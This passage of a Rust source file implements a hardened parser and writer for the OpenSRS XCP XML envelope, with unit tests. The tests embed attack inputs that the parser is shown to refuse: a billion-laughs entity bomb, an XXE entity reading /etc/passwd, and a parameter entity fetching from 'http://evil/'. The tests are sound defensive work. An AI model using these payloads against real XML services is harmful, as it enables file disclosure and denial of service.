//! The OpenSRS XCP `OPS_envelope` codec: the `dt_assoc`/`dt_array` value type, a hardened request parser and the response/request writers.
//!
//! Reading goes through quick-xml into a small element tree built with an
//! explicit stack, so no input can make us recurse deeper than
//! [`MAX_DEPTH`]. Entities are never expanded: only the five predefined ones
//! and character references are resolved, and a DOCTYPE carrying an internal
//! subset (the vehicle of "billion laughs" and XXE) is refused outright.
//! Writing goes through the quick-xml `Writer`, which escapes every value.

#![forbid(unsafe_code)]

use std::borrow::Cow;
use std::io;

use super::xml_tree::{child_elements, read_tree, Doctype, Element, Node, XmlError};

use quick_xml::escape::escape;
use quick_xml::events::attributes::Attribute;
use quick_xml::events::{BytesDecl, BytesEnd, BytesStart, BytesText, Event};
use quick_xml::name::QName;
use quick_xml::Writer;

/// The deepest element nesting a parsed document may have.
pub const MAX_DEPTH: usize = 32;

/// An XCP value: a scalar, a `dt_assoc` or a `dt_array`.
///
/// Both containers keep their items in document order. The items of a
/// `dt_array` carry their keys as sent (`"0"`, `"1"`, … when well formed).
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum XcpValue {
    /// Text content of an `item` (or a `dt_scalar`).
    Scalar(String),
    /// A `dt_assoc`: keyed items, insertion order kept, keys unique when parsed.
    Assoc(Vec<(String, XcpValue)>),
    /// A `dt_array`: items keyed by their index.
    Array(Vec<(String, XcpValue)>),
}

impl XcpValue {
    /// A scalar value.
    pub fn scalar(text: impl Into<String>) -> XcpValue {
        XcpValue::Scalar(text.into())
    }

    /// A `dt_assoc` from `(key, value)` pairs, in the given order.
    pub fn assoc<K: Into<String>>(pairs: impl IntoIterator<Item = (K, XcpValue)>) -> XcpValue {
        XcpValue::Assoc(pairs.into_iter().map(|(k, v)| (k.into(), v)).collect())
    }

    /// A `dt_array` from values, keyed `"0"`, `"1"`, … in the given order.
    pub fn array(items: impl IntoIterator<Item = XcpValue>) -> XcpValue {
        XcpValue::Array(
            items
                .into_iter()
                .enumerate()
                .map(|(i, v)| (i.to_string(), v))
                .collect(),
        )
    }

    /// The item under `key` of an assoc or array (the first one if repeated).
    pub fn get(&self, key: &str) -> Option<&XcpValue> {
        self.items()?
            .iter()
            .find(|(k, _)| k == key)
            .map(|(_, value)| value)
    }

    /// The text of a scalar under `key`, a shortcut for `get(key)?.as_str()`.
    pub fn get_str(&self, key: &str) -> Option<&str> {
        self.get(key)?.as_str()
    }

    /// The text of a scalar; `None` for containers.
    pub fn as_str(&self) -> Option<&str> {
        match self {
            XcpValue::Scalar(text) => Some(text),
            XcpValue::Assoc(_) | XcpValue::Array(_) => None,
        }
    }

    /// The items of an assoc or array; `None` for scalars.
    pub fn items(&self) -> Option<&[(String, XcpValue)]> {
        match self {
            XcpValue::Assoc(items) | XcpValue::Array(items) => Some(items),
            XcpValue::Scalar(_) => None,
        }
    }

    /// Converts to JSON: scalars become strings, assocs objects (a repeated
    /// key keeps its last value), arrays arrays in item order.
    pub fn to_json(&self) -> serde_json::Value {
        match self {
            XcpValue::Scalar(text) => serde_json::Value::String(text.clone()),
            XcpValue::Assoc(items) => serde_json::Value::Object(
                items
                    .iter()
                    .map(|(k, v)| (k.clone(), v.to_json()))
                    .collect(),
            ),
            XcpValue::Array(items) => {
                serde_json::Value::Array(items.iter().map(|(_, v)| v.to_json()).collect())
            }
        }
    }

    /// Converts from JSON: objects become assocs, arrays arrays, strings and
    /// numbers scalars, booleans `"1"`/`"0"` (as XCP spells them), null `""`.
    pub fn from_json(value: &serde_json::Value) -> XcpValue {
        match value {
            serde_json::Value::Null => XcpValue::Scalar(String::new()),
            serde_json::Value::Bool(b) => XcpValue::from(*b),
            serde_json::Value::Number(n) => XcpValue::Scalar(n.to_string()),
            serde_json::Value::String(s) => XcpValue::Scalar(s.clone()),
            serde_json::Value::Array(items) => {
                XcpValue::array(items.iter().map(XcpValue::from_json))
            }
            serde_json::Value::Object(map) => {
                XcpValue::assoc(map.iter().map(|(k, v)| (k.clone(), XcpValue::from_json(v))))
            }
        }
    }
}

impl From<&str> for XcpValue {
    fn from(text: &str) -> XcpValue {
        XcpValue::Scalar(text.to_owned())
    }
}

impl From<String> for XcpValue {
    fn from(text: String) -> XcpValue {
        XcpValue::Scalar(text)
    }
}

impl From<i64> for XcpValue {
    fn from(n: i64) -> XcpValue {
        XcpValue::Scalar(n.to_string())
    }
}

impl From<u64> for XcpValue {
    fn from(n: u64) -> XcpValue {
        XcpValue::Scalar(n.to_string())
    }
}

impl From<bool> for XcpValue {
    /// XCP spells booleans `1` and `0`.
    fn from(b: bool) -> XcpValue {
        XcpValue::Scalar(if b { "1" } else { "0" }.to_owned())
    }
}

/// A parsed XCP request: the top-level `dt_assoc` of the `data_block`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct XcpRequest {
    /// The `protocol` item as sent, upper-cased (normally `XCP`); empty when absent.
    pub protocol: String,
    /// The `action` item, trimmed and upper-cased (`poll` = `POLL`).
    pub action: String,
    /// The `object` item, trimmed and upper-cased.
    pub object: String,
    /// The `attributes` item, always an `Assoc` (empty when absent).
    pub attributes: XcpValue,
    /// Every other top-level item, in document order (e.g. `registrant_ip`).
    pub other: Vec<(String, XcpValue)>,
}

/// An XCP reply, written by [`write_response`] in the envelope of the seed.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct XcpResponse {
    /// The object the reply is about, e.g. `EVENT`.
    pub object: String,
    /// Always `REPLY` in practice.
    pub action: String,
    /// The XCP response code (200 success, 4xx refusals, …).
    pub response_code: u16,
    /// Written as `1` or `0`.
    pub is_success: bool,
    /// Human text, e.g. `Command successful`.
    pub response_text: String,
    /// An identifier of this exchange, echoed for the client's logs.
    pub transaction_id: String,
    /// The `attributes` item, written last and only when present.
    pub attributes: Option<XcpValue>,
}

/// Parses an `OPS_envelope` and returns the top `dt_assoc` of its
/// `data_block`, whatever its items (request or response).
pub fn parse_envelope(body: &[u8]) -> Result<XcpValue, XmlError> {
    let root = read_tree(body, Doctype::ExternalOnly)?;
    envelope_to_value(root)
}

/// Parses an XCP request: the envelope, then the `protocol`, `action`,
/// `object` and `attributes` items; action and object are required.
pub fn parse_request(body: &[u8]) -> Result<XcpRequest, XmlError> {
    let top = match parse_envelope(body)? {
        XcpValue::Assoc(items) => items,
        // parse_envelope only ever returns an Assoc.
        XcpValue::Scalar(_) | XcpValue::Array(_) => {
            return Err(XmlError::new("data_block must hold a dt_assoc"));
        }
    };
    let mut protocol = None;
    let mut action = None;
    let mut object = None;
    let mut attributes = None;
    let mut other = Vec::new();
    for (key, value) in top {
        match key.as_str() {
            "protocol" => protocol = Some(required_word("protocol", value)?),
            "action" => action = Some(required_word("action", value)?),
            "object" => object = Some(required_word("object", value)?),
            "attributes" => attributes = Some(attributes_value(value)?),
            _ => other.push((key, value)),
        }
    }
    let action = action.ok_or_else(|| XmlError::new("missing item \"action\""))?;
    let object = object.ok_or_else(|| XmlError::new("missing item \"object\""))?;
    Ok(XcpRequest {
        protocol: protocol.unwrap_or_default(),
        action,
        object,
        attributes: attributes.unwrap_or(XcpValue::Assoc(Vec::new())),
        other,
    })
}

/// A scalar item that must hold a word: trimmed, upper-cased, not empty.
fn required_word(key: &str, value: XcpValue) -> Result<String, XmlError> {
    match value {
        XcpValue::Scalar(text) => {
            let word = text.trim();
            if word.is_empty() {
                Err(XmlError::new(format!("empty item \"{key}\"")))
            } else {
                Ok(word.to_ascii_uppercase())
            }
        }
        XcpValue::Assoc(_) | XcpValue::Array(_) => {
            Err(XmlError::new(format!("item \"{key}\" must be a scalar")))
        }
    }
}

/// The `attributes` item must be a `dt_assoc`; an empty scalar counts as an
/// empty one, since some clients send `<item key="attributes"/>`.
fn attributes_value(value: XcpValue) -> Result<XcpValue, XmlError> {
    match value {
        XcpValue::Assoc(_) => Ok(value),
        XcpValue::Scalar(text) if text.trim().is_empty() => Ok(XcpValue::Assoc(Vec::new())),
        XcpValue::Scalar(_) | XcpValue::Array(_) => {
            Err(XmlError::new("item \"attributes\" must be a dt_assoc"))
        }
    }
}

/// Writes an XCP reply shaped exactly like the seed's example: the same
/// prolog, then `protocol object response_code is_success response_text
/// transaction_id action` and `attributes` when present.
pub fn write_response(resp: &XcpResponse) -> String {
    let mut top = vec![
        ("protocol".to_owned(), XcpValue::from("XCP")),
        ("object".to_owned(), XcpValue::from(resp.object.as_str())),
        (
            "response_code".to_owned(),
            XcpValue::Scalar(resp.response_code.to_string()),
        ),
        ("is_success".to_owned(), XcpValue::from(resp.is_success)),
        (
            "response_text".to_owned(),
            XcpValue::from(resp.response_text.as_str()),
        ),
        (
            "transaction_id".to_owned(),
            XcpValue::from(resp.transaction_id.as_str()),
        ),
        ("action".to_owned(), XcpValue::from(resp.action.as_str())),
    ];
    if let Some(attributes) = &resp.attributes {
        top.push(("attributes".to_owned(), attributes.clone()));
    }
    write_envelope(&XcpValue::Assoc(top))
}

/// Writes an XCP request in the same envelope: `protocol` (XCP), `action`,
/// `object`, `attributes`.
pub fn write_request(action: &str, object: &str, attributes: &XcpValue) -> String {
    let top = XcpValue::Assoc(vec![
        ("protocol".to_owned(), XcpValue::from("XCP")),
        ("action".to_owned(), XcpValue::from(action)),
        ("object".to_owned(), XcpValue::from(object)),
        ("attributes".to_owned(), attributes.clone()),
    ]);
    write_envelope(&top)
}

/// Writes a whole envelope around `top`, one element per line as in the
/// seed (no indentation), ending with a newline.
fn write_envelope(top: &XcpValue) -> String {
    let mut writer = Writer::new_with_indent(Vec::new(), b' ', 0);
    let written = write_envelope_into(&mut writer, top);
    let mut bytes = writer.into_inner();
    bytes.push(b'\n');
    match written {
        Ok(()) => String::from_utf8(bytes)
            .unwrap_or_else(|e| String::from_utf8_lossy(e.as_bytes()).into_owned()),
        // Writing into a Vec<u8> cannot fail; an empty answer is the least
        // wrong thing to return should that ever change.
        Err(_) => String::new(),
    }
}

fn write_envelope_into(w: &mut Writer<Vec<u8>>, top: &XcpValue) -> io::Result<()> {
    // The seed's prolog mixes quote styles; clients have been parsing exactly
    // that for years, so it is reproduced byte for byte. It holds no values.
    w.write_event(Event::Decl(BytesDecl::from_start(
        BytesStart::from_content(r#"xml version='1.0' encoding="UTF-8" standalone="no" "#, 3),
    )))?;
    w.write_event(Event::DocType(BytesText::from_escaped(
        r#"OPS_envelope SYSTEM "ops.dtd""#,
    )))?;
    start(w, "OPS_envelope")?;
    start(w, "header")?;
    start(w, "version")?;
    w.write_event(Event::Text(BytesText::new("0.9")))?;
    end(w, "version")?;
    end(w, "header")?;
    start(w, "body")?;
    start(w, "data_block")?;
    write_container(w, top)?;
    end(w, "data_block")?;
    end(w, "body")?;
    end(w, "OPS_envelope")
}

fn start(w: &mut Writer<Vec<u8>>, name: &str) -> io::Result<()> {
    w.write_event(Event::Start(BytesStart::new(name)))
}

fn end(w: &mut Writer<Vec<u8>>, name: &str) -> io::Result<()> {
    w.write_event(Event::End(BytesEnd::new(name)))
}

/// Writes a value as the content of an `item` (or of the `data_block`).
/// Recursion follows the value, which our own code builds (or which was
/// parsed, hence at most `MAX_DEPTH` deep).
fn write_container(w: &mut Writer<Vec<u8>>, value: &XcpValue) -> io::Result<()> {
    let (tag, items) = match value {
        XcpValue::Scalar(text) => return w.write_event(Event::Text(BytesText::new(text))),
        XcpValue::Assoc(items) => ("dt_assoc", items),
        XcpValue::Array(items) => ("dt_array", items),
    };
    start(w, tag)?;
    for (key, item) in items {
        let mut tag = BytesStart::new("item");
        tag.push_attribute(key_attribute(key));
        w.write_event(Event::Start(tag))?;
        write_container(w, item)?;
        end(w, "item")?;
    }
    end(w, tag)
}

/// The `key` attribute of an item. quick-xml escapes markup and `\r`; tabs
/// and newlines are escaped too, or a reader would normalise them to spaces.
fn key_attribute(key: &str) -> Attribute<'_> {
    let escaped = escape(key);
    let value = if escaped.contains(['\n', '\t']) {
        Cow::Owned(escaped.replace('\n', "&#10;").replace('\t', "&#9;"))
    } else {
        escaped
    };
    Attribute {
        key: QName("key"),
        value,
    }
}

// ---------------------------------------------------------------------------
// Reading: bytes → element tree → XcpValue.

/// The one child element named `want` of `parent`, nothing else allowed.
fn only_child(parent: Element, want: &str) -> Result<Element, XmlError> {
    let parent_name = parent.name.clone();
    let mut children = child_elements(parent)?.into_iter();
    match (children.next(), children.next()) {
        (Some(child), None) if child.name == want => Ok(child),
        (Some(child), None) => Err(XmlError::new(format!(
            "unexpected element <{}> in <{parent_name}>, expected <{want}>",
            child.name
        ))),
        (None, _) => Err(XmlError::new(format!(
            "missing <{want}> in <{parent_name}>"
        ))),
        (Some(_), Some(extra)) => Err(XmlError::new(format!(
            "unexpected element <{}> in <{parent_name}>, expected one <{want}>",
            extra.name
        ))),
    }
}

fn envelope_to_value(root: Element) -> Result<XcpValue, XmlError> {
    if root.name != "OPS_envelope" {
        return Err(XmlError::new(format!(
            "unexpected element <{}>, expected <OPS_envelope>",
            root.name
        )));
    }
    let mut header_seen = false;
    let mut body = None;
    for child in child_elements(root)? {
        match child.name.as_str() {
            "header" if !header_seen => {
                header_seen = true;
                check_header(child)?;
            }
            "body" if body.is_none() => body = Some(child),
            "header" | "body" => {
                return Err(XmlError::new(format!(
                    "more than one <{}> in <OPS_envelope>",
                    child.name
                )));
            }
            other => {
                return Err(XmlError::new(format!(
                    "unexpected element <{other}> in <OPS_envelope>"
                )));
            }
        }
    }
    let body = body.ok_or_else(|| XmlError::new("missing <body> in <OPS_envelope>"))?;
    let data_block = only_child(body, "data_block")?;
    let top = only_child(data_block, "dt_assoc")?;
    container_to_value(top)
}

/// The header holds at most a `<version>` with text; its value is not checked.
fn check_header(header: Element) -> Result<(), XmlError> {
    for child in child_elements(header)? {
        if child.name != "version" {
            return Err(XmlError::new(format!(
                "unexpected element <{}> in <header>",
                child.name
            )));
        }
        if child.children.iter().any(|c| matches!(c, Node::Element(_))) {
            return Err(XmlError::new("<version> must hold text only"));
        }
    }
    Ok(())
}

/// Converts a `dt_assoc`, `dt_array` or `dt_scalar`. Recursion is bounded
/// by the tree's depth, itself at most `MAX_DEPTH`.
fn container_to_value(element: Element) -> Result<XcpValue, XmlError> {
    match element.name.as_str() {
        "dt_scalar" => scalar_text(element).map(XcpValue::Scalar),
        "dt_assoc" | "dt_array" => {
            let is_assoc = element.name == "dt_assoc";
            let tag = element.name.clone();
            let mut items: Vec<(String, XcpValue)> = Vec::new();
            for item in child_elements(element)? {
                if item.name != "item" {
                    return Err(XmlError::new(format!(
                        "unexpected element <{}> in <{tag}>",
                        item.name
                    )));
                }
                let key = item
                    .attrs
                    .iter()
                    .find(|(k, _)| k == "key")
                    .map(|(_, v)| v.clone())
                    .ok_or_else(|| {
                        XmlError::new(format!("<item> without a key attribute in <{tag}>"))
                    })?;
                if is_assoc && items.iter().any(|(k, _)| *k == key) {
                    return Err(XmlError::new(format!(
                        "duplicate key \"{key}\" in <dt_assoc>"
                    )));
                }
                let value = item_to_value(item, &key)?;
                items.push((key, value));
            }
            Ok(if is_assoc {
                XcpValue::Assoc(items)
            } else {
                XcpValue::Array(items)
            })
        }
        other => Err(XmlError::new(format!("unexpected element <{other}>"))),
    }
}

/// An item holds either text or exactly one container.
fn item_to_value(item: Element, key: &str) -> Result<XcpValue, XmlError> {
    if !item.children.iter().any(|c| matches!(c, Node::Element(_))) {
        return scalar_text(item).map(XcpValue::Scalar);
    }
    let mut children = child_elements(item)
        .map_err(|_| XmlError::new(format!("item \"{key}\" mixes text and elements")))?
        .into_iter();
    match (children.next(), children.next()) {
        (Some(only), None) => container_to_value(only),
        _ => Err(XmlError::new(format!(
            "item \"{key}\" must hold one dt_assoc, dt_array or dt_scalar"
        ))),
    }
}

/// The text of an element that must not hold elements.
fn scalar_text(element: Element) -> Result<String, XmlError> {
    let mut text = String::new();
    for child in element.children {
        match child {
            Node::Text(t) => text.push_str(&t),
            Node::Element(e) => {
                return Err(XmlError::new(format!(
                    "unexpected element <{}> in <{}>",
                    e.name, element.name
                )));
            }
        }
    }
    Ok(text)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The seed's example (seed 003, "Example Response for status_change").
    const SEED_RESPONSE: &str = include_str!("../../tests/seeds/xcp_poll_reply.xml");

    fn poll_reply() -> XcpResponse {
        let event = XcpValue::assoc([
            (
                "object_data",
                XcpValue::assoc([
                    ("domain_name", XcpValue::from("tucows-13e97b6ef1b1c.com")),
                    ("order_status", XcpValue::from("pending")),
                    ("order_reg_type", XcpValue::from("new")),
                    ("order_id", XcpValue::from(701980_i64)),
                ]),
            ),
            ("object", XcpValue::from("ORDER")),
            (
                "event_id",
                XcpValue::from("39232348265486a2ac352d349cd88a3f"),
            ),
            ("event", XcpValue::from("STATUS_CHANGE")),
            ("event_date", XcpValue::from("2014-06-19T15:31:47Z")),
        ]);
        XcpResponse {
            object: "EVENT".into(),
            action: "REPLY".into(),
            response_code: 200,
            is_success: true,
            response_text: "Command successful".into(),
            transaction_id: "2014-06-19 11:31:49 27660 101".into(),
            attributes: Some(XcpValue::assoc([
                ("events", XcpValue::array([event])),
                ("total", XcpValue::from(6_i64)),
            ])),
        }
    }

    fn shape(xml: &str) -> Vec<String> {
        crate::face::xml_tree::shape(xml, Doctype::ExternalOnly)
    }

    fn refused(body: &str) -> String {
        match parse_envelope(body.as_bytes()) {
            Ok(v) => panic!("accepted {body:?} as {v:?}"),
            Err(e) => e.message,
        }
    }

    fn check_refused(body: &str, want: &str) {
        let message = refused(body);
        assert!(
            message.contains(want),
            "body {body:?}\n  message {message:?}\n  wanted {want:?}"
        );
    }

    fn envelope(items: &str) -> String {
        format!(
            "<?xml version=\"1.0\"?><OPS_envelope><body><data_block><dt_assoc>{items}</dt_assoc></data_block></body></OPS_envelope>"
        )
    }

    #[test]
    fn parses_the_seed_example() {
        let top = parse_envelope(SEED_RESPONSE.as_bytes()).unwrap();
        assert_eq!(top.get_str("protocol"), Some("XCP"));
        assert_eq!(top.get_str("is_success"), Some("1"));
        assert_eq!(
            top.get_str("transaction_id"),
            Some("2014-06-19 11:31:49 27660 101")
        );
        let attrs = top.get("attributes").unwrap();
        assert_eq!(attrs.get_str("total"), Some("6"));
        let events = attrs.get("events").unwrap();
        assert!(matches!(events, XcpValue::Array(items) if items.len() == 1));
        let event = events.get("0").unwrap();
        assert_eq!(event.get_str("event"), Some("STATUS_CHANGE"));
        assert_eq!(
            event.get("object_data").unwrap().get_str("order_id"),
            Some("701980")
        );
        // As a request it is generic too: object and action are there.
        let req = parse_request(SEED_RESPONSE.as_bytes()).unwrap();
        assert_eq!(
            (req.action.as_str(), req.object.as_str()),
            ("REPLY", "EVENT")
        );
        assert_eq!(req.protocol, "XCP");
        assert_eq!(req.other.len(), 4);
        assert_eq!(req.other[0].0, "response_code");
    }

    #[test]
    fn golden_poll_reply_matches_the_seed() {
        let written = write_response(&poll_reply());
        assert_eq!(shape(&written), shape(SEED_RESPONSE));
        // The writer reproduces the seed byte for byte, prolog included.
        assert_eq!(written, SEED_RESPONSE);
        assert_eq!(
            parse_envelope(written.as_bytes()).unwrap(),
            parse_envelope(SEED_RESPONSE.as_bytes()).unwrap()
        );
    }

    #[test]
    fn response_without_attributes_omits_the_item() {
        let mut resp = poll_reply();
        resp.attributes = None;
        resp.is_success = false;
        resp.response_code = 400;
        let top = parse_envelope(write_response(&resp).as_bytes()).unwrap();
        let keys: Vec<&str> = top
            .items()
            .unwrap()
            .iter()
            .map(|(k, _)| k.as_str())
            .collect();
        assert_eq!(
            keys,
            [
                "protocol",
                "object",
                "response_code",
                "is_success",
                "response_text",
                "transaction_id",
                "action"
            ]
        );
        assert_eq!(top.get_str("is_success"), Some("0"));
        assert_eq!(top.get_str("response_code"), Some("400"));
    }

    #[test]
    fn request_round_trip() {
        let attributes = XcpValue::assoc([
            ("limit", XcpValue::from(5_i64)),
            (
                "contact_set",
                XcpValue::assoc([(
                    "owner",
                    XcpValue::assoc([("first_name", XcpValue::from("Ada"))]),
                )]),
            ),
            (
                "nameserver_list",
                XcpValue::array([XcpValue::from("ns1.example.com"), XcpValue::from("")]),
            ),
        ]);
        let body = write_request("poll", "event", &attributes);
        let req = parse_request(body.as_bytes()).unwrap();
        assert_eq!(req.action, "POLL");
        assert_eq!(req.object, "EVENT");
        assert_eq!(req.protocol, "XCP");
        assert_eq!(req.attributes, attributes);
        assert!(req.other.is_empty());
    }

    #[test]
    fn escaping_round_trips() {
        let nasty = "a<b>&c\"d'e ]]> &amp; \r\n\ttab";
        let attributes = XcpValue::assoc([(nasty, XcpValue::from(nasty))]);
        let body = write_request("SW_REGISTER", "DOMAIN", &attributes);
        assert!(!body.contains("a<b"), "{body}");
        let req = parse_request(body.as_bytes()).unwrap();
        // Keys are attribute values, whose raw whitespace a reader
        // normalises; the writer's character references keep it intact.
        assert_eq!(req.attributes.get_str(nasty), Some(nasty));
    }

    #[test]
    fn entity_references_are_unescaped() {
        let body = envelope(
            r#"<item key="action">poll</item><item key="object">event</item>
            <item key="attributes"><dt_assoc><item key="a&amp;b">x &lt;&gt; &#39;&#x41;&quot;&apos;</item></dt_assoc></item>"#,
        );
        let req = parse_request(body.as_bytes()).unwrap();
        assert_eq!(req.attributes.get_str("a&b"), Some("x <> 'A\"'"));
    }

    #[test]
    fn accepts_either_quote_style_and_doctype() {
        let items = r#"<item key="action">POLL</item><item key="object">EVENT</item>"#;
        for prolog in [
            r#"<?xml version='1.0' encoding='UTF-8' standalone='no' ?>"#,
            r#"<?xml version="1.0" encoding="UTF-8" standalone="no"?>"#,
            r#"<?xml version='1.0' encoding="UTF-8" standalone="no" ?>"#,
            r#"<?xml version='1.0'?><!DOCTYPE OPS_envelope SYSTEM 'ops.dtd'>"#,
            r#"<?xml version="1.0"?>  <!DOCTYPE OPS_envelope SYSTEM "ops.dtd">  "#,
            "\u{feff}<?xml version='1.0'?>",
            "\n  <?xml version='1.0'?>\n",
            "",
            "  \n",
        ] {
            let body = format!(
                "{prolog}\n<OPS_envelope>\n <header> <version>0.9</version> </header>\n <body>\n  <data_block> <dt_assoc>{items}</dt_assoc> </data_block></body></OPS_envelope>\n"
            );
            let req = parse_request(body.as_bytes()).unwrap_or_else(|e| panic!("{prolog}: {e}"));
            assert_eq!(
                (req.action.as_str(), req.object.as_str()),
                ("POLL", "EVENT")
            );
        }
        let single = "<?xml version='1.0' encoding='UTF-8' standalone='no' ?>\n<!DOCTYPE OPS_envelope SYSTEM 'ops.dtd'>\n<OPS_envelope><header><version>0.9</version></header><body><data_block><dt_assoc><item key='protocol'>XCP</item><item key='action'>ack</item><item key='object'>event</item></dt_assoc></data_block></body></OPS_envelope>";
        let req = parse_request(single.as_bytes()).unwrap();
        assert_eq!((req.action.as_str(), req.object.as_str()), ("ACK", "EVENT"));
    }

    #[test]
    fn action_and_object_are_case_insensitive() {
        for (action, object) in [("poll", "event"), ("Poll", "Event"), (" POLL\n", "EVENT")] {
            let body = envelope(&format!(
                r#"<item key="action">{action}</item><item key="object">{object}</item>"#
            ));
            let req = parse_request(body.as_bytes()).unwrap();
            assert_eq!(
                (req.action.as_str(), req.object.as_str()),
                ("POLL", "EVENT")
            );
            assert_eq!(req.attributes, XcpValue::Assoc(Vec::new()));
            assert_eq!(req.protocol, "");
        }
    }

    #[test]
    fn dt_scalar_and_empty_items() {
        let body = envelope(
            r#"<item key="action"><dt_scalar>poll</dt_scalar></item><item key="object">event</item>
            <item key="attributes"><dt_assoc><item key="e"/><item key="f"></item><item key="g"><dt_assoc/></item></dt_assoc></item>"#,
        );
        let req = parse_request(body.as_bytes()).unwrap();
        assert_eq!(req.action, "POLL");
        assert_eq!(req.attributes.get_str("e"), Some(""));
        assert_eq!(req.attributes.get_str("f"), Some(""));
        assert_eq!(req.attributes.get("g"), Some(&XcpValue::Assoc(Vec::new())));
    }

    #[test]
    fn missing_keys_are_named() {
        let cases = [
            (
                envelope(r#"<item key="object">EVENT</item>"#),
                "missing item \"action\"",
            ),
            (
                envelope(r#"<item key="action">POLL</item>"#),
                "missing item \"object\"",
            ),
            (
                envelope(r#"<item key="action"> </item><item key="object">EVENT</item>"#),
                "empty item \"action\"",
            ),
            (
                envelope(r#"<item key="action"><dt_assoc/></item><item key="object">EVENT</item>"#),
                "item \"action\" must be a scalar",
            ),
            (
                envelope(
                    r#"<item key="action">POLL</item><item key="object">EVENT</item><item key="attributes">x</item>"#,
                ),
                "item \"attributes\" must be a dt_assoc",
            ),
        ];
        for (body, want) in cases {
            let message = parse_request(body.as_bytes()).unwrap_err().message;
            assert!(message.contains(want), "{body}\n{message}");
        }
    }

    #[test]
    fn billion_laughs_and_xxe_are_refused() {
        let laughs = r#"<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<OPS_envelope><body><data_block><dt_assoc><item key="action">&lol3;</item></dt_assoc></data_block></body></OPS_envelope>"#;
        check_refused(
            laughs,
            "DOCTYPE with internal subset/ENTITY declarations are not allowed",
        );
        let xxe = r#"<?xml version="1.0"?><!DOCTYPE OPS_envelope [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><OPS_envelope><body><data_block><dt_assoc><item key="action">&xxe;</item></dt_assoc></data_block></body></OPS_envelope>"#;
        check_refused(xxe, "DOCTYPE with internal subset");
        let param = r#"<!DOCTYPE OPS_envelope SYSTEM "ops.dtd" [<!ENTITY % p SYSTEM "http://evil/">%p;]><OPS_envelope/>"#;
        check_refused(param, "DOCTYPE with internal subset");
        // An entity used without any declaration is refused too.
        check_refused(
            &envelope(r#"<item key="action">&xxe;</item><item key="object">EVENT</item>"#),
            "undefined entity reference &xxe;",
        );
        check_refused(
            &envelope(r#"<item key="a&lol;">1</item>"#),
            "attribute key of <item>",
        );
        check_refused(
            &envelope(r#"<item key="a">&#0;</item>"#),
            "invalid character reference",
        );
        check_refused(&envelope("<item key=\"a\">\u{1}</item>"), "U+0001");
        check_refused(
            r#"<OPS_envelope/><!DOCTYPE OPS_envelope SYSTEM "ops.dtd">"#,
            "DOCTYPE is only allowed once",
        );
    }

    #[test]
    fn deep_nesting_is_refused_without_recursion() {
        let mut deep = String::from("<OPS_envelope><body><data_block><dt_assoc>");
        for _ in 0..100_000 {
            deep.push_str("<item key=\"k\"><dt_assoc>");
        }
        check_refused(&deep, "nesting deeper than 32 levels");
        // Just under the limit is fine: 4 levels of envelope, then pairs.
        let mut ok = String::from("<OPS_envelope><body><data_block><dt_assoc>");
        let pairs = (MAX_DEPTH - 4) / 2;
        for _ in 0..pairs {
            ok.push_str("<item key=\"k\"><dt_assoc>");
        }
        for _ in 0..pairs {
            ok.push_str("</dt_assoc></item>");
        }
        ok.push_str("</dt_assoc></data_block></body></OPS_envelope>");
        assert!(parse_envelope(ok.as_bytes()).is_ok());
    }

    #[test]
    fn wide_input_is_fine() {
        let mut items = String::new();
        for i in 0..20_000 {
            items.push_str(&format!("<item key=\"{i}\">v</item>"));
        }
        let body = format!(
            "<OPS_envelope><body><data_block><dt_assoc><item key=\"action\">a</item><item key=\"object\">o</item><item key=\"attributes\"><dt_array>{items}</dt_array></item></dt_assoc></data_block></body></OPS_envelope>"
        );
        let err = parse_request(body.as_bytes()).unwrap_err();
        assert!(err.message.contains("must be a dt_assoc"));
        let top = parse_envelope(body.as_bytes()).unwrap();
        assert_eq!(
            top.get("attributes").unwrap().items().unwrap().len(),
            20_000
        );
    }

    #[test]
    fn garbage_is_refused() {
        let cases: &[(&[u8], &str)] = &[
            (b"", "no root element"),
            (b"   ", "no root element"),
            (b"hello", "text outside the root element"),
            (b"<OPS_envelope>", "unexpected end of document inside <OPS_envelope>"),
            (b"<OPS_envelope></body>", "malformed XML at byte"),
            (b"<foo/>", "unexpected element <foo>"),
            (b"<OPS_envelope/><OPS_envelope/>", "content after the root element"),
            (b"<OPS_envelope/>trailing", "text outside the root element"),
            (b"<OPS_envelope/>", "missing <body>"),
            (b"<OPS_envelope><body/></OPS_envelope>", "missing <data_block> in <body>"),
            (
                b"<OPS_envelope><body><data_block><dt_array/></data_block></body></OPS_envelope>",
                "unexpected element <dt_array> in <data_block>",
            ),
            (
                b"<OPS_envelope><body><data_block><dt_assoc><foo/></dt_assoc></data_block></body></OPS_envelope>",
                "unexpected element <foo> in <dt_assoc>",
            ),
            (
                b"<OPS_envelope><body><data_block><dt_assoc><item>1</item></dt_assoc></data_block></body></OPS_envelope>",
                "<item> without a key attribute",
            ),
            (
                b"<OPS_envelope><body><data_block><dt_assoc><item key='a'>1</item><item key='a'>2</item></dt_assoc></data_block></body></OPS_envelope>",
                "duplicate key \"a\"",
            ),
            (
                b"<OPS_envelope><body><data_block><dt_assoc><item key='a'>x<dt_assoc/></item></dt_assoc></data_block></body></OPS_envelope>",
                "item \"a\" mixes text and elements",
            ),
            (
                b"<OPS_envelope><body><data_block><dt_assoc><item key='a'><dt_assoc/><dt_assoc/></item></dt_assoc></data_block></body></OPS_envelope>",
                "item \"a\" must hold one",
            ),
            (
                b"<OPS_envelope><body><data_block><dt_assoc><item key='a'><dt_foo/></item></dt_assoc></data_block></body></OPS_envelope>",
                "unexpected element <dt_foo>",
            ),
            (
                b"<OPS_envelope><header><foo/></header><body/></OPS_envelope>",
                "unexpected element <foo> in <header>",
            ),
            (
                b"<OPS_envelope>junk<body/></OPS_envelope>",
                "unexpected text \"junk\" in <OPS_envelope>",
            ),
            (b"<OPS_envelope><body>", "unexpected end of document"),
            (b"<OPS_envelope attr=\"x></OPS_envelope>", "malformed XML"),
            (b"<OPS_envelope>\xff</OPS_envelope>", "invalid UTF-8 at byte 14"),
            (b"<OPS_envelope/><?xml version='1.0'?>", "XML declaration must come first"),
            (
